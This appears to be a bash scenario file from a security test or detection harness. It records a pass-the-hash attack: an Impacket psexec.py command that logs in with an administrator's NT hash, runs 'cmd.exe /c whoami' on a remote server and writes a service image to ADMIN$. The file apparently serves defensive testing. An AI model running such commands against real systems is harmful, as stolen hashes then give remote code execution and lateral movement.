# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record
title="Impacket's psexec.py by Pass-the-Hash"
about="As psexec-impacket, but the account's NT hash stands in for its password: nothing in the NTLM messages tells
the two apart."
dialect=3.0
account='FS1\admin'

run() {
  impacket psexec.py -hashes ":$nt_hash_admin" "FS1/admin@$server_ip" 'cmd.exe /c whoami'
  connected 'IPC$' 'ADMIN$'
  wrote_service_image 'ADMIN$'
}
